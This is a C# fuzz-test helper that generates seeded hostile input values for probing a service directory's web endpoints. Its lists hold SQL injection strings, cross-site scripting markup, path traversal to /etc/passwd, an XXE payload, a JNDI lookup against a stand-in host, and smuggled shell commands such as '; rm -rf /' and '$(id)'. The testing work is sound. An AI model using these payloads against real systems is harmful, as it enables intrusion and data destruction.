using System.Text;
using ServiceDirectory.Tests.Http;

namespace ServiceDirectory.Tests.Fuzz;

/// <summary>Values that somebody hostile makes up, from a seed. Every text is bytes, one letter each, as it goes over the wire.</summary>
/// <param name="random">Decides everything.</param>
internal sealed class HostileText(Random random)
{
    /// <summary>In nearly every value, and in no text of ours: wherever it is found, something repeated what was sent.</summary>
    public const string Marker = "zqfuzz";

    /// <summary>The name of a header that only an injected line would set.</summary>
    public const string InjectedHeader = "X-Zqfuzz";

    /// <summary>Found in an answer only where a value was written as markup.</summary>
    private static readonly string[] s_markup =
    [
        "<b data-x=1>", "\"><b data-x=1>", "'><b data-x=1>", "\" data-x=\"1", "' data-x='1", "</title><script data-x>", "</textarea><b data-x=1>", "--><b data-x=1>", "]]><b data-x=1>",
        "&lt;b data-x&gt;", "&#60;b data-x&#62;", "\" onfocus=\"alert(1)\" autofocus data-x=\"", "javascript:alert(1)//", "<svg/onload=alert(1) data-x>", "[x](javascript:alert(1))", "![x](//evil.example/x)",
    ];

    private static readonly string[] s_statements =
    [
        "' or '1'='1", "'; drop table directory.service; --", "1) union select null,null--", "' and (select pg_sleep(20)) is null--", "\\'", "$$", "$1", "E'\\x'", "\"directory\".\"account\"", "a:*&!b|(c", "%' or 1=1--", "0x27", "1;select 1/0",
        "'||(select version())||'", "{1,2", "\\N", "[1,3)", "(1,\"x\")",
    ];

    private static readonly string[] s_numbers =
    [
        "0", "-0", "-1", "1", "100", "101", "200", "201", "32768", "65536", "2147483647", "2147483648", "-2147483649", "9223372036854775807", "9223372036854775808", "18446744073709551616",
        "1e999", "-1e999", "NaN", "nan", "Infinity", "-Infinity", "1e-999", "0.0000000000000001", "1,5", "1.5.5", "0x7f", "1_000", " 1", "1 ", "+1", "--1", "1e", ".", "1.", "٣", "۳", "III", "½", "１", "𝟙", "true",
    ];

    private static readonly string[] s_dates =
    [
        "0001-01-01", "9999-12-31", "10000-01-01", "-0001-01-01", "0000-00-00", "2026-02-29", "2026-02-30", "2024-02-29", "2026-11-24T24:00:00", "2026-13-01", "1e9-01-01", "2026-11-24T12:00:00+99:99", "24:00", "25:61", "00:00",
        "23:59:60", "-09:00", "2026-W48", "٢٠٢٦-١١-٢٤", "2026/11/24", "24.11.2026", "now", "infinity", "-infinity", "PT1H",
    ];

    private static readonly string[] s_other =
    [
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd\0.png", "file:///etc/passwd", "//evil.example", "/\\evil.example", "\\\\evil.example\\x", "https://evil.example/", "http:evil.example", "/%2e%2e/%2e%2e/", "C:\\",
        "=cmd|'/c calc'!A1", "+1+1", "@SUM(1)", "\t=1", "-2+3", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "@(7*7)", "{0}", "{0:D99999999}", "%s%s%n", "${jndi:ldap://evil.example/x}",
        "{\"a\":", "{\"$type\":\"System.Object\"}", "[[[[[[[[[[", "\\u0000", "\"\\ud800\"", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
        $"\r\n{InjectedHeader}: 1", $"\n{InjectedHeader}: 1\n\n", $"%0d%0a{InjectedHeader}: 1", "\r\n\r\n<b data-x=1>", "; rm -rf /", "| id", "`id`", "$(id)", "a,b;c\td|e", "\"", "'", "\\", "(", ")*", "[a-", "(a+)+$", "|", "!", "&", "&&&", "<", ">",
        "BEGIN:VCALENDAR\nEND:VCALENDAR", "# head\n\n- list\n\n```", "[a]: x", "~~~", "null", "undefined", "[object Object]", "__proto__", "constructor", "System.Type",
    ];

    /// <summary>Signs that letters should not hold, or that do something to those beside them.</summary>
    private static readonly string[] s_signs =
    [
        "\0", "\u0001", "\u0008", "\u001b[31m", "\u007f", "\u0085", "\u00a0", "\u00ad", "\u200b", "\u200d", "\u200e", "\u202a", "\u202e", "\u2028", "\u2029", "\u2066", "\u2069", "\ufeff", "\ufffd", "\ufffe", "\uffff", "\u0301", "\u0300\u0301\u0302\u0303",
        "\u0e47", "\u064b\u0651", "\u0130", "\u0131", "\u00df", "\ufb03", "\ufdfa", "\u212a", "\u1e9e", "e\u0301", "\U0001f600", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U000e0041", "\U0010ffff", "\U00020000", "ع", "ș", "٣٤", "۳", "҉",
    ];

    /// <summary>No letters in UTF-8: overlong, halves of surrogates, cut off, beyond the last.</summary>
    private static readonly string[] s_broken =
    [
        "\xC0\x80", "\xC0\xAF", "\xE0\x80\xAF", "\xED\xA0\x80", "\xED\xB0\x80", "\xED\xA0\xBD\xED\xB8\x80", "\xF4\x90\x80\x80", "\xF8\x88\x80\x80\x80", "\xE2\x82", "\x80", "\xFF", "\xFE\xFF", "\xEF\xBB\xBF",
    ];

    /// <summary>Words that forms know, so that what is sent beside something hostile is believed.</summary>
    private static readonly string[] s_plausible =
    [
        "Leeds", "pep", "condom broke", "2644688", "1", "4", "7", "GB", "en", "ar", "yes", "on", "2026-11-24", "2026-12-24", "09:00", "17:00", "0113 496 0123", "https://mill.example/", "info@mill.example", "Free tests and treatment.", "Mon 9:00-17:00", "LS1 4AP", "25",
        "distance", "remote", "now",
    ];

    public int Next(int below) => random.Next(below);

    public bool IsOneOf(int some) => random.Next(some) == 0;

    public T Any<T>(IReadOnlyList<T> from) => from[random.Next(from.Count)];

    public string Plausible() => Any(s_plausible);

    /// <summary>Bytes that nothing has looked at: they stand in a path, a query or a form after <see cref="Escaped"/>.</summary>
    public string Raw()
    {
        string text = random.Next(16) switch
        {
            0 or 1 or 2 => Letters(Any(s_markup)),
            3 or 4 => Letters(Any(s_statements)),
            5 => Letters(Any(s_numbers)),
            6 => Letters(Any(s_dates)),
            7 or 8 => Letters(Any(s_other)),
            9 => string.Concat(Enumerable.Range(0, random.Next(1, 6)).Select(_ => Letters(Any(s_signs)))),
            10 => Any(s_broken),
            11 => Bytes(random.Next(1, 40)),
            12 => Repeated(),
            13 => Changed(Letters(Plausible())),
            14 => Letters(Plausible()) + Letters(Any(s_signs)) + Letters(Any(s_markup)),
            _ => Scalars(random.Next(1, 12)),
        };
        return random.Next(4) switch
        {
            0 => text,
            1 => Marker + text,
            _ => text + Marker,
        };
    }

    /// <summary>As it stands in an address or a form: letters escaped, some of them by mistake not or wrongly.</summary>
    public string Escaped(string raw)
    {
        int kind = random.Next(12);
        var escaped = new StringBuilder(raw.Length * 2);
        foreach (char letter in raw)
        {
            if (char.IsAsciiLetterOrDigit(letter) || letter is '-' or '_' or '.' or '~' ? kind != 0 || random.Next(3) > 0 : kind != 1 || letter is <= ' ' or > '~' or '#' or '&' or '?')
                escaped.Append(char.IsAsciiLetterOrDigit(letter) || letter is '-' or '_' or '.' or '~' ? letter.ToString() : $"%{(int)letter:X2}");
            else
                escaped.Append(kind == 0 ? $"%{(int)letter:x2}" : letter.ToString());
        }

        return kind switch
        {
            2 => escaped.Append(Any(["%", "%z", "%zz", "%u0041", "%%", "%0", "+", "%2", "%25"])).ToString(),
            3 => escaped.Replace("%", "%25").ToString(),
            _ => escaped.ToString(),
        };
    }

    /// <summary>A value as it stands in an address or a form.</summary>
    public string Value() => random.Next(5) switch
    {
        0 => Any(s_short),
        _ => Escaped(Raw()),
    };

    /// <summary>What is good, with a few of its bytes changed, left out, doubled or moved.</summary>
    public string Changed(string good)
    {
        var bytes = new StringBuilder(good);
        for (int left = random.Next(1, 5); left > 0 && bytes.Length > 0; left--)
        {
            int at = random.Next(bytes.Length), length = Math.Min(random.Next(1, 9), bytes.Length - at);
            switch (random.Next(7))
            {
                case 0:
                    bytes[at] = (char)(bytes[at] ^ (1 << random.Next(8)));
                    break;
                case 1:
                    bytes.Remove(at, length);
                    break;
                case 2:
                    bytes.Insert(at, bytes.ToString(at, length));
                    break;
                case 3:
                    bytes[at] = (char)random.Next(256);
                    break;
                case 4:
                    bytes.Insert(at, Letters(Any(s_signs)));
                    break;
                case 5 when bytes.Length > 20 && random.Next(3) == 0:
                    bytes.Length = at;
                    break;
                default:
                    bytes.Insert(at, Letters(Any(random.Next(2) == 0 ? s_other : s_numbers)));
                    break;
            }
        }

        return bytes.ToString();
    }

    public string Bytes(int count)
    {
        byte[] bytes = new byte[count];
        random.NextBytes(bytes);
        return Encoding.Latin1.GetString(bytes);
    }

    /// <summary>Short enough that a request line holds it, and such that its escapes are whole.</summary>
    private static readonly string[] s_short = [.. HostileValues.All.Where(value => value.Length < 2_000)];

    /// <summary>A text in UTF-8, one letter a byte.</summary>
    public static string Letters(string text) => Encoding.Latin1.GetString(Encoding.UTF8.GetBytes(text));

    private string Repeated() => string.Concat(Enumerable.Repeat(
        Letters(Any(random.Next(2) == 0 ? s_signs : ["a", "a ", "(", "\"", "<b data-x>", "é", "[", "{\"a\":", "0", ",", "\r\n", "&amp;", "../"])), Any([2, 60, 199, 200, 201, 280, 281, 900])));

    private string Scalars(int count)
    {
        var text = new StringBuilder();
        while (count-- > 0)
        {
            int scalar = random.Next(3) == 0 ? random.Next(0x110000) : random.Next(0x3000);
            if (Rune.IsValid(scalar))
                text.Append(new Rune(scalar));
        }

        return Letters(text.ToString());
    }
}
